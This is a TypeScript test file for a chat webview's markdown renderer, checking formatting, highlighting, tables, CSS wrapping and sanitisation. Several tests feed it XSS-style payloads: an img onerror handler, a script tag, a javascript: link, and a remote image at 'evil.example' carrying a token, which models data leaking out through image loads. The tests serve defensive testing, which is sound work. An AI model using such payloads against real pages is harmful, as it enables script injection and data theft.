import assert from "node:assert/strict";
import { test } from "node:test";
import type { WindowLike } from "dompurify";
import { JSDOM } from "jsdom";
import { readFileSync } from "node:fs";
import * as path from "node:path";
import { createMarkdownRenderer } from "../../src/webview/markdown";

const render = createMarkdownRenderer(new JSDOM("").window as unknown as WindowLike);

test("markdown renders emphasis, code and lists", () => {
  const html = render("**bold** and `code`\n\n- one\n- two");
  assert.match(html, /<strong>bold<\/strong>/);
  assert.match(html, /<code>code<\/code>/);
  assert.match(html, /<li>one<\/li>/);
});

test("raw HTML in markdown is escaped, not executed", () => {
  const html = render('<img src=x onerror="alert(1)"><script>alert(2)</script>');
  assert.ok(!/<img|<script/i.test(html), html);
  assert.match(html, /&lt;script&gt;/);
});

test("javascript: links never become links", () => {
  const html = render("[click](javascript:alert(1)) and [ok](https://example.com)");
  assert.ok(!/href="javascript:/i.test(html), html);
  assert.match(html, /href="https:\/\/example.com"/);
});

test("a remote image becomes a link and never an <img>", () => {
  const html = render("![badge](https://evil.example/b.svg?token=secret) ![local](http://127.0.0.1:9/x.png)");
  assert.ok(!/<img/i.test(html), html);
  assert.match(html, /<a class="image-link" href="https:\/\/evil.example\/b.svg\?token=secret"[^>]*>\[image: badge\]<\/a>/);
});

test("code blocks are highlighted, tables and lists render", () => {
  const html = render("```python\ndef f():\n    return 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two");
  assert.match(html, /<span class="hljs-keyword">def<\/span>/);
  assert.match(html, /<table>/);
  assert.match(html, /<ol>/);
});

test("a huge code block is left plain (no stall)", () => {
  const html = render("```python\n" + "x = 1\n".repeat(30_000) + "```");
  assert.ok(!/hljs-/.test(html));
});

test("table cells keep words whole and a wide table scrolls sideways (narrow sidebar)", () => {
  // The chat's `overflow-wrap: anywhere` must stop at table cells: they wrap between words only,
  // and the table's box scrolls instead.
  const css = readFileSync(path.join(__dirname, "..", "..", "src", "webview", "style.css"), "utf8");
  const cells = /\.markdown th, \.markdown td \{([^}]*)\}/.exec(css)?.[1] ?? "";
  assert.match(cells, /word-break: normal/);
  assert.match(cells, /overflow-wrap: normal/);
  assert.match(/\.table-wrap \{([^}]*)\}/.exec(css)?.[1] ?? "", /overflow-x: auto/);
  const html = render("| name | value |\n|---|---|\n| a-long-identifier | 1 |");
  assert.match(html, /<td>a-long-identifier<\/td>/);
});
